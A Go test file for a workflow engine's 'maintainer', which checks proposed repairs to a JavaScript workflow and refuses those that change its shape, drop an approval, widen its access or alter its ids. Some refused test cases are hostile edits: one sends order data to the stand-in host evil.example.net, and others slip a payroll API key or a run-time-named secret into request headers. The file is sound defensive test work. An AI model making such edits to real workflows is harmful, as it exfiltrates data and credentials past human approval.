package maintainer

import (
	"strings"
	"testing"

	"github.com/keep-run/keep/internal/config"
	"github.com/keep-run/keep/internal/connector"
	"github.com/keep-run/keep/internal/connector/builtin"
	"github.com/keep-run/keep/internal/engine"
	kt "github.com/keep-run/keep/internal/keeptype"
	"github.com/keep-run/keep/internal/netguard"
	"github.com/keep-run/keep/internal/script"
)

// inPlace is the version a repair is checked against: a producer that
// registers inputs and publishes, a consumer that writes over http with a
// subkey, and an approval setting.
const inPlace = `export default Keep.workflow({
  name: "orders",
  topics: { "job": {}, "done": {}, "note": { from: "api" }, "audit": {} },
  requireApproval: ["http.request"],
  producers: { p: { publishes: ["job"], schedule: { interval: "1h" }, handler: async (ctx, state) => {
    for (const j of JSON.parse((await ctx.files.read({ path: "jobs.json" })).content)) {
      const inputId = ctx.registerInput({ source: "system", type: "schedule", id: j.id, title: "Order " + j.id })
      await ctx.publish("job", { messageId: "job-" + j.id, inputId, payload: j })
    }
  } } },
  consumers: { c: Keep.consumer({ subscribe: ["job"], publishes: ["done"],
    async prepare(ctx) {
      const [e] = await ctx.peek("job"); if (!e) return { reservations: [] }
      return { reservations: [{ topic: "job", ids: [e.messageId] }], data: { id: e.payload.id, who: e.payload.customer.toUpperCase() } }
    },
    async mutate(ctx, p) { await ctx.http.request({ method: "POST", url: "https://api.example.com/orders/" + p.data.id, json: { id: p.data.id, who: p.data.who }, subkey: "order-" + p.data.id }) },
    async next(ctx, p) { await ctx.publish("done", { messageId: "done-" + p.data.id, payload: { id: p.data.id } }) },
  }),
  d: Keep.consumer({ subscribe: ["done"], publishes: ["audit"], async prepare(ctx) { return { reservations: [] } }, async mutate(ctx, p) {}, async next(ctx) {} }),
  e: Keep.consumer({ subscribe: ["note"], async prepare(ctx) { return { reservations: [] } }, async mutate(ctx, p) {} }),
  },
})`

// edit is inPlace with each old → new replaced once; it fails the test
// when old is not there (a case that no longer changes anything).
func edit(t *testing.T, pairs ...string) string {
	t.Helper()
	src := inPlace
	for i := 0; i+1 < len(pairs); i += 2 {
		if !strings.Contains(src, pairs[i]) {
			t.Fatalf("the script in place has no %q to change", pairs[i])
		}
		src = strings.Replace(src, pairs[i], pairs[i+1], 1)
	}
	return src
}

// checksOf runs each of a repair's checks on its own: "" when it holds.
func checksOf(t *testing.T, old, new string) map[string]string {
	t.Helper()
	o, err := script.Compile("orders.js", old)
	if err != nil {
		t.Fatal(err)
	}
	n, err := script.Compile("orders.js", new)
	if err != nil {
		t.Fatalf("the repair does not compile: %v", err)
	}
	return map[string]string{
		"sameShape": sameShape(o.Decl, n.Decl),
		"noWider":   noWider(old, new),
		"frozenIDs": frozenIDs(old, new),
	}
}

// maintainerFor is a Maintainer whose engine validates against keep's
// own connectors (Engine.Check), as keep serve's does.
func maintainerFor(t *testing.T) *Maintainer {
	t.Helper()
	set, err := builtin.Build(&connector.Host{Config: config.Config{}, Guard: netguard.New(nil)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { set.Close() })
	return &Maintainer{Engine: engine.New(engine.Options{Registry: set.Registry(t.TempDir())})}
}

// Each check of a repair holds a repair that keeps what it guards and
// refuses one that changes it. Every refused case passes the other checks,
// so it would be activated (or held only by the replay) without its own:
// remove a check and its cases fail. Maintainer.check, the one the
// Maintainer runs, gives the same answer.
func TestARepairsChecks(t *testing.T) {
	cases := []struct {
		name  string
		new   func(t *testing.T) string
		check string // the check that refuses it; "" holds
		want  string // in the refusal
	}{
		{name: "the fix of the failing expression holds", new: func(t *testing.T) string {
			return edit(t, "e.payload.customer.toUpperCase()", `(e.payload.customer || "unknown").toUpperCase()`)
		}},
		{name: "a comment and spacing in an id expression hold", new: func(t *testing.T) string {
			return edit(t, `messageId: "job-" + j.id,`, `messageId: "job-"   +   j.id /* the job's own id */,`)
		}},
		{name: "topics in another order hold", new: func(t *testing.T) string {
			return edit(t, `topics: { "job": {}, "done": {},`, `topics: { "done": {}, "job": {},`)
		}},
		{name: "a new topic", check: "sameShape", want: "the topics changed", new: func(t *testing.T) string {
			return edit(t, `"audit": {} }`, `"audit": {}, "later": { from: "api" } }`)
		}},
		{name: "a consumer gone", check: "sameShape", want: "the consumers changed", new: func(t *testing.T) string {
			return edit(t, "  e: Keep.consumer({ subscribe: [\"note\"], async prepare(ctx) { return { reservations: [] } }, async mutate(ctx, p) {} }),\n", "")
		}},
		{name: "a consumer renamed", check: "sameShape", want: "the consumer c is gone", new: func(t *testing.T) string {
			return edit(t, "consumers: { c: Keep.consumer(", "consumers: { c2: Keep.consumer(")
		}},
		{name: "a consumer that subscribes to another topic", check: "sameShape", want: "the consumer e publishes or subscribes differently", new: func(t *testing.T) string {
			return edit(t, `subscribe: ["note"]`, `subscribe: ["note", "audit"]`)
		}},
		{name: "a topic published by another handler", check: "sameShape", want: "publishes or subscribes differently", new: func(t *testing.T) string {
			return edit(t, `publishes: ["done"],`, `publishes: ["done", "audit"],`, `d: Keep.consumer({ subscribe: ["done"], publishes: ["audit"],`, `d: Keep.consumer({ subscribe: ["done"],`)
		}},
		{name: "an approval dropped", check: "sameShape", want: "the approval settings changed", new: func(t *testing.T) string {
			return edit(t, `requireApproval: ["http.request"],`, ``)
		}},
		{name: "a connector method not used before", check: "noWider", want: "files.write", new: func(t *testing.T) string {
			return edit(t, `async mutate(ctx, p) {`, `async mutate(ctx, p) { await ctx.files.write({ path: "log.txt", content: p.data.id });`)
		}},
		{name: "a host not reached before", check: "noWider", want: "evil.example.net", new: func(t *testing.T) string {
			return edit(t, `https://api.example.com/orders/`, `https://evil.example.net/orders/`)
		}},
		// Issue 39 #2: a secret the version in place never named, sent
		// only for inputs not seen yet; and one whose name is built at run
		// time (issue 38 #4: a secret is a grant like a connector's).
		{name: "a secret not named before", check: "noWider", want: "secret:payroll_api_key", new: func(t *testing.T) string {
			return edit(t, `subkey: "order-" + p.data.id })`, `subkey: "order-" + p.data.id, ...(Number(p.data.id) > 1 ? { headers: { "X-Debug": "{secret:payroll_api_key}" } } : {}) })`)
		}},
		{name: "a secret whose name is computed", check: "noWider", want: "{secret:…} with a name computed at run time", new: func(t *testing.T) string {
			return edit(t, `subkey: "order-" + p.data.id })`, `subkey: "order-" + p.data.id, headers: { "X-Debug": "{secret:" + p.data.who + "}" } })`)
		}},
		{name: "an input id built differently", check: "frozenIDs", want: "registerInput id", new: func(t *testing.T) string {
			return edit(t, `id: j.id, title`, `id: "o-" + j.id, title`)
		}},
		{name: "a messageId built differently", check: "frozenIDs", want: "messageId", new: func(t *testing.T) string {
			return edit(t, `messageId: "job-" + j.id`, `messageId: "job:" + j.id`)
		}},
		{name: "a subkey built differently", check: "frozenIDs", want: "subkey", new: func(t *testing.T) string {
			return edit(t, `subkey: "order-" + p.data.id`, `subkey: "order-" + p.data.who`)
		}},
	}
	m := maintainerFor(t)
	old := kt.Version{File: "orders.js", Script: inPlace}
	if why := m.check(old, inPlace); why != "" {
		t.Fatalf("the version in place fails its own checks: %s", why)
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			src := c.new(t)
			for name, why := range checksOf(t, inPlace, src) {
				switch {
				case name == c.check && why == "":
					t.Errorf("%s holds the repair; it must refuse it (%s)", name, c.want)
				case name == c.check && !strings.Contains(why, c.want):
					t.Errorf("%s refuses it saying %q, which does not say %q", name, why, c.want)
				case name != c.check && why != "":
					t.Errorf("%s refuses it too (%s): the case does not show that %s alone refuses it", name, why, c.check)
				}
			}
			why := m.check(old, src)
			if (why == "") != (c.check == "") || !strings.Contains(why, c.want) {
				t.Errorf("Maintainer.check answered %q; want a refusal by %s saying %q", why, c.check, c.want)
			}
		})
	}
}

// Before its own checks, a repair passes keep validate, and the version in
// place must still compile: either refusal names what failed.
func TestARepairThatFailsValidationIsRefused(t *testing.T) {
	m := maintainerFor(t)
	old := kt.Version{File: "orders.js", Script: inPlace}
	bad := strings.Replace(inPlace, "ctx.http.request(", "ctx.http.requets(", 1)
	if why := m.check(old, bad); !strings.HasPrefix(why, "it does not pass keep validate: ") || !strings.Contains(why, "requets") {
		t.Fatalf("a repair calling a method http has not: %q", why)
	}
	gone := kt.Version{File: "orders.js", Script: "export default Keep.workflow({"}
	if why := m.check(gone, inPlace); !strings.HasPrefix(why, "the version in place does not compile any more: ") {
		t.Fatalf("a version in place that does not compile: %q", why)
	}
}

// The Planner's review: every input has a title; each case fails without
// its rule. (An id built from the time or chance is refused by validation
// in every script: script's TestValidateRefusesIdsFromTimeOrChance.)
func TestThePlannersReview(t *testing.T) {
	for _, c := range []struct {
		name  string
		edits []string // old, new, …
		want  string
	}{
		{"the script in place passes", nil, ""},
		{"an input without a title", []string{`, title: "Order " + j.id })`, ` })`}, "has no title"},
	} {
		t.Run(c.name, func(t *testing.T) {
			why := review(edit(t, c.edits...))
			if (why == "") != (c.want == "") || !strings.Contains(why, c.want) {
				t.Fatalf("review answered %q; want %q", why, c.want)
			}
		})
	}
}
